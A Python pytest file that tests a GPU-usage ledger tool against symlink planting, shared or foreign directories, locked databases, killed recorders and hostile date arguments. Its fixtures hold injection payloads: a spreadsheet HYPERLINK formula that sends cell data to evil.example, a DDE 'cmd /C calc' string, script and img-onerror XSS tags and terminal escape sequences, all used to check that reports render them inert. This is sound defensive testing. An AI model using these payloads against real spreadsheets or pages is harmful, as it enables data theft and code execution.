"""The ledger against a hostile neighbour or a hostile file (issue 25.10): links and
directories that would redirect the recorder's writes, another program's database, a
locked one, a SIGKILLed recorder, hostile --since/--from values, and user names, commands
and job names holding HTML, JavaScript, escape sequences and spreadsheet formulas, in
every report format."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers.procs import Reaper, wait_for

from gputop.cli import main
from gputop.ledger import jobs, store
from gputop.ledger.writer import Recorder
from gputop.model import Gpu, GpuProcess, HostSnapshot, Workload

GIB = 1024**3
NOBODY = 65534
RECORD = [sys.executable, "-m", "gputop.cli", "record", "--demo", "lab", "--interval", "0.2"]


def _record(db: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """`gputop record` on ``db``, which must refuse at once (a recorder that starts is
    stopped after a while, and the test fails on what it wrote)."""
    try:
        done = subprocess.run([*RECORD, "--db", str(db)], capture_output=True, text=True,
                              timeout=30)
    except subprocess.TimeoutExpired:
        return -1, "it recorded"
    return done.returncode, done.stderr


@pytest.mark.parametrize("suffix", ["", "-wal", ".lock"])
def test_a_planted_link_is_never_written_through(
    suffix: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious\n")
    db = tmp_path / "ledger.sqlite"
    if suffix:  # the ledger is fine; a companion file is a link
        store.open_writer(str(db)).close()
    Path(f"{db}{suffix}").symlink_to(victim)
    code, err = _record(db, capsys)
    assert code == 2
    assert err.count("\n") == 1 and f"{db}{suffix}: a symbolic link; not written through" in err
    assert victim.read_bytes() == b"precious\n"


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o775])
def test_a_directory_others_may_write_is_refused(
    mode: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(mode)
    code, err = _record(shared / "ledger.sqlite", capsys)
    assert code == 2 and "is a directory others may write it" in err
    assert list(shared.iterdir()) == []  # not even the lock file


def test_another_users_directory_or_file_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give a file away")
    theirs = tmp_path / "theirs"
    theirs.mkdir(mode=0o755)
    os.chown(theirs, NOBODY, NOBODY)
    code, err = _record(theirs / "ledger.sqlite", capsys)
    assert code == 2 and "is a directory it belongs to another user" in err
    db = tmp_path / "ledger.sqlite"
    store.open_writer(str(db)).close()
    os.chown(db, NOBODY, NOBODY)
    code, err = _record(db, capsys)
    assert code == 2 and f"belongs to uid {NOBODY}" in err


def test_another_programs_database_is_not_touched(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "app.sqlite"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE meta (key TEXT, value TEXT)")  # even a table of our name
    conn.execute("INSERT INTO meta VALUES ('schema', '1')")
    conn.commit()
    conn.close()
    before = other.read_bytes()
    code, err = _record(other, capsys)
    assert code == 2 and "not a gputop ledger" in err
    assert other.read_bytes() == before  # not switched to WAL, nothing written
    check = sqlite3.connect(other)
    assert check.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    check.close()


def _locker(db: Path) -> subprocess.Popen[str]:
    """Another program that takes the ledger and keeps it locked."""
    code = ("import sqlite3, sys, time\n"
            "c = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
            "c.execute('PRAGMA locking_mode=EXCLUSIVE')\n"
            "c.execute('BEGIN EXCLUSIVE')\n"
            "c.execute('INSERT INTO meta VALUES (\"x\", \"y\")')\n"
            "print('locked', flush=True)\n"
            "time.sleep(600)\n")
    proc = subprocess.Popen([sys.executable, "-c", code, str(db)], stdout=subprocess.PIPE,
                            text=True)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "locked"
    return proc


def test_a_locked_ledger_is_named_as_locked(
    tmp_path: Path, reaper: Reaper, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "ledger.sqlite"
    recorder = Recorder(store.open_writer(str(db)), 10.0, GIB)
    assert recorder.record(HostSnapshot(host="h", time=time.time(), gpus=(Gpu(index=0),)))
    recorder.conn.close()
    reaper.add(_locker(db))
    for command in (["report", "--db", str(db)], ["record", "--demo", "lab", "--db", str(db)]):
        assert main(command) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1, err
        assert "locked by another program" in err and "not a gputop ledger" not in err


def test_a_sigkilled_recorder_leaves_a_sound_ledger_and_its_lock_to_the_next(
    tmp_path: Path, reaper: Reaper
) -> None:
    db = tmp_path / "ledger.sqlite"

    def samples() -> int:
        try:
            conn = store.open_reader(str(db))
        except store.LedgerError:
            return 0
        try:
            return int(conn.execute("SELECT COUNT(*) FROM gpu_samples").fetchone()[0])
        finally:
            conn.close()

    for _round in range(3):
        rec = reaper.add(subprocess.Popen([*RECORD, "--db", str(db)], stderr=subprocess.PIPE,
                                          text=True))
        assert rec.stderr is not None and "recording" in rec.stderr.readline()
        seen = samples()
        wait_for(lambda seen=seen: samples() > seen, timeout=60, what="new samples")
        rec.send_signal(signal.SIGKILL)
        rec.wait(30)
        conn = store.open_reader(str(db))
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        conn.close()


@pytest.mark.parametrize(("args", "words"), [
    (["--since", "99999999999999d"], "--since '99999999999999d': at most 100 years"),
    (["--since", "36600d"], "at most 100 years"),
    (["--from", "0001-01-01"], "--from '0001-01-01'"),
    (["--from", "1969-12-31T00:00+00:00"], "a date from 1970 to 9998"),
    (["--from", "2026-01-01", "--to", "9999-12-31T23:59"], "a date from 1970 to 9998"),
    (["--from", "\x1b[2J" + "x" * 1_000_000], "--from '\\x1b[2Jxxxxxxxxxx"),
    (["--since", "1h\n=cmd"], "--since '1h\\n=cmd'"),
])
def test_hostile_periods_are_one_short_line(
    args: list[str], words: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "ledger.sqlite"
    store.open_writer(str(db)).close()
    assert main(["report", "--db", str(db), *args]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and words in err and len(err) < 300, err[:300]
    assert "\x1b" not in err


# -- hostile names in every format ----------------------------------------------------------

EVIL_USER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_COMMAND = '<script>alert(1)</script> \x1b[31mred\x1b[0m \u202etxt.exe @SUM(1+1)'
EVIL_JOB = "+cmd|' /C calc'!A0 <img src=x onerror=alert(1)>"
START = 1_764_547_200.0
SPAN = ["--from", "2025-12-01T00:00+00:00", "--to", "2025-12-01T02:00+00:00"]


@pytest.fixture
def evil(tmp_path: Path) -> Path:
    db = tmp_path / "evil.sqlite"
    recorder = Recorder(store.open_writer(str(db)), 60.0, GIB)
    slurm = Workload(kind="slurm", id="77", step="0", user=EVIL_USER, name=EVIL_JOB,
                     end_time=START + 86400)
    for tick in range(61):
        procs = (GpuProcess(pid=9, gpu=0, gpu_mem=2 * GIB, sm_util=0, user=EVIL_USER,
                            command=EVIL_COMMAND, start_time=START - 5, workload=slurm),)
        gpus = (Gpu(index=0, uuid="GPU-0", name="<b>H100</b>", util_gpu=0, mem_used=2 * GIB,
                    mem_total=80 * GIB),)
        assert recorder.record(HostSnapshot(host="-evil<host>", time=START + tick * 60.0,
                                            gpus=gpus, processes=procs))
    recorder.conn.close()
    # A `gputop run` job of the same names, written as `gputop run` writes it.
    jobs.begin({"id": "@job", "attempt": 1, "user": EVIL_USER, "uid": os.geteuid(),
                "host": "-evil<host>", "command": EVIL_COMMAND, "request": {"gpus": 1},
                "gpus": [0], "submitted": START, "started": START + 60, "status": "running",
                "log": None, "pid": os.getpid(), "pid_start": None},
               str(db)).end("success", "done", 0, None, at=START + 3600)
    return db


def _formats(db: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> dict[str, str]:
    out = {}
    for fmt in ("text", "md", "csv", "json", "html"):
        assert main(["report", "--db", str(db), *SPAN, *extra, "--format", fmt]) == 0
        out[fmt] = capsys.readouterr().out
    return out


@pytest.mark.parametrize("extra", [[], ["--by", "workload"], ["--by", "host"], ["--jobs"]])
def test_hostile_names_are_inert_in_every_format(
    evil: Path, extra: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    found = _formats(evil, capsys, *extra)
    for fmt, text in found.items():
        assert "\x1b" not in text and "\u202e" not in text, fmt  # no terminal control
        if fmt in ("md", "html"):  # markup: the tags must arrive as text
            assert "<script" not in text and "<img" not in text and "<b>" not in text, fmt
    assert "HYPERLINK" in found["text"] or "--jobs" not in extra  # the name is still shown
    for row in csv.reader(io.StringIO(found["csv"])):
        for value in row:
            assert value[:1] not in ("=", "+", "@", "-") or value.lstrip("-")[:1].isdigit(), (
                value)
    doc = json.loads(found["json"])  # JSON keeps the text as it was, for programs
    if not extra:
        assert doc["groups"][0]["name"] == EVIL_USER
        assert doc["idle_holds"][0]["command"] == EVIL_COMMAND
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in found["html"]
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in found["md"]
    if extra == ["--jobs"]:
        assert {j["id"] for j in doc["jobs"]} == {"@job", "77"}
        assert "&lt;img src=x onerror=alert(1)&gt;" in found["html"]
